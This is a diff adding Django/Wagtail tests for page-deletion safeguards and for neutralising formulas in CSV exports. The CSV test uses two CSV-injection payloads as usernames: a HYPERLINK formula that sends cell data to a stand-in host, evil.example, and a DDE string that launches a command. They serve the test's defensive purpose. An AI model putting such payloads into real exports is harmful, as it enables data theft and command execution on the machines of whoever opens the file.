@@ -91,3 +91,87 @@ def test_member_responses_are_private(users, workspace_a, settings):
         assert "private" in response.get("Cache-Control", ""), url
     anonymous = Client().get("/de/gremien/")
     assert "private" not in anonymous.get("Cache-Control", "")
+
+
+# --- Item 4: deleting pages ---------------------------------------------------------------------
+
+
+@pytest.fixture
+def big_page(content_page, settings):
+    from home.factories import ContentPageFactory
+
+    settings.WAGTAILADMIN_UNSAFE_PAGE_DELETION_LIMIT = 3
+    for number in range(3):
+        ContentPageFactory(parent=content_page, title=f"Kind {number}", slug=f"kind-{number}")
+    return content_page
+
+
+def _csrf_client(user):
+    client = Client(enforce_csrf_checks=True)
+    client.force_login(user)
+    client.get("/admin/")
+    return client, client.cookies["csrftoken"].value
+
+
+def test_deleting_many_pages_needs_the_site_name_server_side(big_page, users, settings):
+    from wagtail.models import Page
+
+    client, token = _csrf_client(users["admin"])
+    url = f"/admin/pages/{big_page.pk}/delete/"
+    for data in [{}, {"confirm_site_name": ""}, {"confirm_site_name": "falsch"}]:
+        response = client.post(url, {**data, "csrfmiddlewaretoken": token})
+        assert response.status_code == 302 and response["Location"] == url, data
+        assert Page.objects.filter(pk=big_page.pk).exists(), data
+    response = client.post(
+        url, {"confirm_site_name": settings.WAGTAIL_SITE_NAME, "csrfmiddlewaretoken": token}
+    )
+    assert not Page.objects.filter(pk=big_page.pk).exists()
+
+
+def test_a_page_locked_by_someone_else_is_not_deleted(content_page, users):
+    from django.utils import timezone
+
+    from wagtail.models import Page
+
+    content_page.locked, content_page.locked_by = True, users["editor"]
+    content_page.locked_at = timezone.now()
+    content_page.save()
+    client, token = _csrf_client(users["moderator"])
+    url = f"/admin/pages/{content_page.pk}/delete/"
+    client.post(url, {"csrfmiddlewaretoken": token})
+    assert Page.objects.filter(pk=content_page.pk).exists()
+    # The one who locked it may delete it (positive control), given the permission.
+    client, token = _csrf_client(users["admin"])
+    content_page.locked_by = users["admin"]
+    content_page.save()
+    client.post(url, {"csrfmiddlewaretoken": token})
+    assert not Page.objects.filter(pk=content_page.pk).exists()
+
+
+# --- Item 13: CSV exports neutralise formulas ---------------------------------------------------
+
+
+def test_login_report_csv_neutralises_formulas(home, users):
+    from django.contrib.auth import get_user_model
+
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"Klick")'
+    Client().post("/de/anmelden/", {"username": evil, "password": "falsch"})
+    Client().post("/de/anmelden/", {"username": "+cmd|' /C calc'!A0", "password": "x"})
+    root = get_user_model().objects.create_superuser("root", "root@example.org", "pw-1234567")
+    client = Client()
+    client.force_login(root)
+    response = client.get("/admin/reports/security/?export=csv")
+    body = b"".join(response.streaming_content).decode()
+    assert "HYPERLINK" in body  # the row is there (positive control) …
+    for line in body.splitlines():
+        for cell in next(__import__("csv").reader([line])):
+            assert not cell.startswith(("=", "+", "@")), line  # … but never as a formula
+
+
+def test_csv_safe_keeps_numbers():
+    from portal.wagtail_patches import csv_safe
+
+    assert csv_safe("-12.5") == "-12.5"
+    assert csv_safe("-x") == "'-x"
+    assert csv_safe("@SUM(A1)") == "'@SUM(A1)"
+    assert csv_safe(7) == 7
